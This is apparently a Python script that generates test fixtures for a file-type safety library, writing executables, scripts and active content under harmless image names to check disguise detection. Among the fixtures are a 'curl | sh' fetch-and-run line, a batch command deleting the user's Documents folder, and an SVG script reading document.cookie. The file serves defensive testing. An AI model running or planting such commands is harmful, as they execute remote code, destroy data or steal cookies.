#!/usr/bin/python3
"""Fixtures for the type policy and the disguise rules (libimsafe/imsafe.c,
sniff.c) and for claimed-name findings on real payloads (filename.c),
checked through tests/expect/types.tsv: executables, scripts and active
content under harmless names (FORCEDENTRY's PDF named .gif, ImageTragick's
MVG named .jpg, an EXE named photo.png), image-to-image mismatches that are
rebuilt with a note (a PNG named favicon.ico, a JPEG named sticker.webp),
HEIF-family files under each other's names (a Nokia-style .heif whose brand
is heic), RTLO / double-extension names, and the payloads that claimed names
only a file system minds (con.jpg, "photo.jpg. ", a 300-byte name) are
checked against (tests/test_filename.c checks their display names).

Usage: gen_types.py OUTDIR    (writes OUTDIR/types/*)
"""
import io
import os
import random
import struct
import sys

from PIL import Image

PE = (b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x14C, 0)
      + bytes(200))
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)
SVG_SCRIPT = (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
              b'height="10"><script>alert(document.cookie)</script>'
              b'<rect width="10" height="10"/></svg>\n')
SVG_PLAIN = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
             b'<rect width="10" height="10" fill="red"/></svg>\n')
MVG = (b"push graphic-context\nviewbox 0 0 640 480\n"
       b"image over 0,0 0,0 'https://x/'\npop graphic-context\n")
HTML = b"<!DOCTYPE html>\n<html><body><script>location='https://x/'</script></body></html>\n"
SHEBANG = b"#!/bin/sh\ncurl https://x/ | sh\n"
BATCH = b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n"
TEXT = b"Minutes of the meeting.\nNothing to report.\n"


def box(kind, payload):
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def heif(major, compatible):
    """A minimal ISO-BMFF image file: ftyp (major brand, minor version,
    compatible brands) and a meta box whose handler is 'pict', the start of
    every HEIF/AVIF still image.  sniff.c reads the ftyp brands only."""
    ftyp = box(b"ftyp", major + bytes(4) + b"".join(compatible))
    hdlr = box(b"hdlr", bytes(4) + bytes(4) + b"pict" + bytes(12) + b"\0")
    pitm = box(b"pitm", bytes(4) + struct.pack(">H", 1))
    return ftyp + box(b"meta", bytes(4) + hdlr + pitm)


def image():
    im = Image.new("RGB", (8, 8))
    im.putdata([(x * 32, y * 32, 128) for y in range(8) for x in range(8)])
    return im


def encoded(fmt, **kw):
    buf = io.BytesIO()
    image().save(buf, fmt, **kw)
    return buf.getvalue()


def main():
    d = os.path.join(sys.argv[1], "types")
    os.makedirs(d, exist_ok=True)
    rng = random.Random(7)
    png = encoded("PNG")
    pdf = encoded("PDF", resolution=72.0)
    files = {
        "exe_as_png.png": PE,
        "setup.exe": PE,
        "pdf_as_gif.gif": pdf,
        "document.pdf": pdf,
        "script.svg": SVG_SCRIPT,
        "svg_as_jpg.jpg": SVG_PLAIN,
        "mvg_as_jpg.jpg": MVG,
        "tool": ELF,
        "backup": SHEBANG,
        "cleanup.bat": BATCH,
        "page.html": HTML,
        "notes.txt": TEXT,
        "png_as_jpg.jpg": png,
        "photo.png": png,
        "random.bin": bytes(rng.getrandbits(8) for _ in range(4096)),
        "empty.txt": b"",
        "photo.webp": encoded("WEBP", lossless=True),
        # images we rebuild under another image type's name
        "favicon.ico": png,
        "sticker.webp": encoded("JPEG", quality=90),
        "photo.jpg": encoded("JPEG", quality=90),
        "anim.gif": encoded("GIF"),
        # non-image claims for images, and a PDF under an image name
        "png_as_svg.svg": png,
        "pdf_as_ico.ico": pdf,
        # HEIF family: Nokia's HEIF files and phone photos carry the heic
        # brand under .heif, mif1 under .heic, and AVIF shares the container
        "nokia.heif": heif(b"heic", [b"mif1", b"heic"]),
        "mif1_as.heic": heif(b"mif1", [b"mif1", b"heic"]),
        "avif_as.heif": heif(b"avif", [b"avif", b"mif1", b"miaf"]),
    }
    for name, data in files.items():
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
